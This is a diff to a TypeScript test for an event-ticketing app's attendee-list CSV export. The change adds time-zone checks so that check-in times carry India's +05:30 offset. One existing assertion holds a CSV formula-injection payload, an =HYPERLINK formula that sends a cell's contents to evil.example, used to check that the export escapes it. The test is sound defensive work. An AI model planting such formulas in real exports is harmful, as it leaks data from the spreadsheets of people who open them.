@@ -13,7 +13,7 @@ type Row = { ticketId: string; orderId: string; ticketTypeName: string; status: 
 describe('event reports', () => {
   test('the attendee list: every ticket sold, with its name, holder and state; searched, filtered, paged; a CSV safe to open; the sales report adds it up', async () => {
     const admin = await loginAdmin()
-    const event = await api('/events', { token: admin.token, body: futureEvent({ title: `Report night ${Math.random().toString(36).slice(2, 6)}` }) })
+    const event = await api('/events', { token: admin.token, body: futureEvent({ title: `Report night ${Math.random().toString(36).slice(2, 6)}`, timeZone: 'Asia/Kolkata' }) })
     const eventId = event.body.id as string
     const standing = (await api(`/events/${eventId}/ticket-types`, { token: admin.token, body: { name: 'Standing', priceCents: 2000, currency: 'EUR', capacity: 20 } })).body.id as string
     const vip = (await api(`/events/${eventId}/ticket-types`, { token: admin.token, body: { name: 'VIP', priceCents: 5000, currency: 'EUR', capacity: 5 } })).body.id as string
@@ -83,6 +83,11 @@ describe('event reports', () => {
     expect(lines).toHaveLength(5)
     expect(lines[1]).toStartWith(`${adaTickets[0]!.id},${adaOrder.body.id},Standing,,valid,"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",${ada!.user.email},`)
     expect(lines[2]).toContain(',Zoë Ångström,')
+    // Times on the venue's clock, with its offset (India: +05:30 all year), the same instants as the list's.
+    const checkedIn = lines[3]!.split(',')[9]!
+    expect(checkedIn).toEndWith('+05:30')
+    expect(Date.parse(checkedIn)).toBe(Date.parse(rows[2]!.checkedInAt!))
+    expect(lines[1]!.split(',').some((cell) => /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d{3})?\+05:30$/.test(cell))).toBe(true)
     for (const code of [adaTickets[0]!.code, adaTickets[1]!.code, bobTicket.code]) expect(text).not.toContain(code)
     const onlyRefunded = await fetch(`${system().gatewayUrl}/api/events/${eventId}/attendees.csv?status=refunded`, { headers: { authorization: `Bearer ${admin.token}` } })
     expect((await onlyRefunded.text()).split('\r\n').filter(Boolean)).toHaveLength(2)
